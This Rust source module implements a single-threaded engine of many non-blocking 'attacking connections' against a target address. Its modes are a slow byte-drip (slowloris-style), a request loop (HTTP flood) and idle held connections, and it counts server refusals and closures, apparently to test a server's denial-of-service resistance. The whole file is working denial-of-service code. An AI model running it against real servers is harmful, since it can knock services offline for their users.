//! Many non-blocking attacking connections on one thread.

use std::fmt::Write as _;
use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use rustix::event::{PollFd, PollFlags, Timespec, poll};

use crate::sockets::begin;
use crate::tools::pause;

/// The longest wait for events of any connection.
const TURN: Timespec = Timespec { tv_sec: 0, tv_nsec: 10_000_000 };
/// The limit of bytes that a connection reads per turn.
const READ_AT_ONCE: usize = 16 << 10;
/// The delay of a refused connection before its next request.
const AFTER_REFUSAL: Duration = Duration::from_millis(50);

/// The behavior of a connection after its opening.
#[derive(Clone)]
pub(crate) enum Habit {
    /// Sends one more byte per interval, and never reads.
    Drip(Duration),
    /// Sends its opening again after each response.
    Loop,
    /// Sends no more bytes, and never reads.
    Rest,
}

/// A crowd of connections.
pub(crate) struct Crowd {
    /// The source addresses, with an equal number of connections each.
    pub(crate) from: Vec<IpAddr>,
    pub(crate) to: SocketAddr,
    pub(crate) connections: usize,
    /// New connections per second, including replacements of closed ones.
    pub(crate) rate: u32,
    /// The limit of bytes per second sent by all connections.
    pub(crate) pace: u64,
    /// The first bytes of each connection, and the number of filler bytes after them.
    pub(crate) opening: Vec<u8>,
    pub(crate) filler: usize,
    pub(crate) habit: Habit,
}

/// The counts of a crowd.
#[derive(Default)]
pub(crate) struct Tally {
    pub(crate) connected: u64,
    /// Connections that the server closed or refused.
    pub(crate) closed: u64,
    bytes: u64,
    answered: u64,
    refused: u64,
    /// The highest number of simultaneous connections.
    most: usize,
}

struct Member {
    stream: TcpStream,
    /// Bytes of the opening and the filler sent so far.
    sent: usize,
    /// The time of the next write.
    due: Instant,
}

/// The bytes of the filler.
static FILLER: [u8; 64 << 10] = [b'x'; 64 << 10];
/// No limit, for crowds that send little.
pub(crate) const UNPACED: u64 = u64::MAX;

impl Crowd {
    /// Maintains the crowd until `stop`.
    pub(crate) fn run(&self, stop: &AtomicBool) -> Result<Tally> {
        let mut members: Vec<Option<Member>> = Vec::new();
        members.resize_with(self.connections, || None);
        let mut tally = Tally::default();
        let begun = Instant::now();
        while !stop.load(Ordering::Relaxed) {
            let allowed = begun.elapsed().as_millis() as u64 * u64::from(self.rate) / 1000;
            self.fill(&mut members, &mut tally, allowed);
            let there = members.iter().flatten().count();
            tally.most = tally.most.max(there);
            if there == 0 {
                pause(Duration::from_millis(1));
                continue;
            }
            let may_send = tally.bytes as f64 <= begun.elapsed().as_secs_f64() * self.pace as f64;
            for (index, flags) in self.ready(&members, may_send)? {
                let Some(member) = &mut members[index] else { continue };
                if self.turn(member, flags, &mut tally).is_err() {
                    tally.closed += 1;
                    members[index] = None;
                }
            }
        }
        Ok(tally)
    }

    /// Connects missing members within the rate.
    fn fill(&self, members: &mut [Option<Member>], tally: &mut Tally, allowed: u64) {
        for (index, place) in members.iter_mut().enumerate() {
            if tally.connected >= allowed {
                return;
            }
            if place.is_none() {
                tally.connected += 1;
                let from = self.from[index % self.from.len()];
                let Ok(stream) = begin(from, self.to) else {
                    tally.closed += 1;
                    continue;
                };
                *place = Some(Member { stream, sent: 0, due: Instant::now() });
            }
        }
    }

    /// The connections with events.
    fn ready(&self, members: &[Option<Member>], may_send: bool) -> Result<Vec<(usize, PollFlags)>> {
        let now = Instant::now();
        let present = members.iter().enumerate();
        let (indexes, mut polled): (Vec<_>, Vec<_>) = present
            .filter_map(|(index, member)| {
                let member = member.as_ref()?;
                let mut flags = PollFlags::RDHUP;
                if may_send && member.due <= now {
                    flags |= PollFlags::OUT;
                }
                if matches!(self.habit, Habit::Loop) {
                    flags |= PollFlags::IN;
                }
                Some((index, PollFd::new(&member.stream, flags)))
            })
            .unzip();
        poll(&mut polled, Some(&TURN)).context("poll")?;
        let flags = polled.iter().map(PollFd::revents);
        Ok(indexes.into_iter().zip(flags).filter(|(_, flags)| !flags.is_empty()).collect())
    }

    /// Continues one connection. Fails when it is closed.
    fn turn(
        &self,
        member: &mut Member,
        flags: PollFlags,
        tally: &mut Tally,
    ) -> std::io::Result<()> {
        if flags.intersects(PollFlags::ERR | PollFlags::HUP | PollFlags::RDHUP) {
            return Err(ErrorKind::ConnectionReset.into());
        }
        let all = self.opening.len() + self.filler;
        if flags.contains(PollFlags::IN) {
            let mut answer = [0; READ_AT_ONCE];
            let count = member.stream.read(&mut answer)?;
            if count == 0 {
                return Err(ErrorKind::ConnectionReset.into());
            }
            if answer.starts_with(b"HTTP/1.1 ") {
                let is_refusal = matches!(&answer[9..12], b"429" | b"503");
                *(if is_refusal { &mut tally.refused } else { &mut tally.answered }) += 1;
                let wait = if is_refusal { AFTER_REFUSAL } else { Duration::ZERO };
                (member.sent, member.due) = (0, Instant::now() + wait);
            }
            return Ok(());
        }
        if !flags.contains(PollFlags::OUT) {
            return Ok(());
        }
        let bytes: &[u8] = if member.sent < self.opening.len() {
            &self.opening[member.sent..]
        } else if member.sent < all {
            &FILLER[..FILLER.len().min(all - member.sent)]
        } else {
            &FILLER[..1]
        };
        let sent = match member.stream.write(bytes) {
            Ok(sent) => sent,
            Err(error) if error.kind() == ErrorKind::WouldBlock => return Ok(()),
            Err(error) => return Err(error),
        };
        member.sent += sent;
        tally.bytes += sent as u64;
        if member.sent >= all {
            member.due = match self.habit {
                Habit::Drip(interval) => Instant::now() + interval,
                // A loop continues when its response arrives.
                Habit::Loop | Habit::Rest => Instant::now() + Duration::from_hours(1),
            };
        }
        Ok(())
    }
}

impl Tally {
    pub(crate) fn text(&self) -> String {
        let mut text = format!(
            "{} connections opened, at most {} at one time, {} closed by the server, {} MiB sent",
            self.connected,
            self.most,
            self.closed,
            self.bytes >> 20
        );
        if self.answered + self.refused > 0 {
            let _ = write!(text, ", {} answered, {} refused", self.answered, self.refused);
        }
        text
    }
}
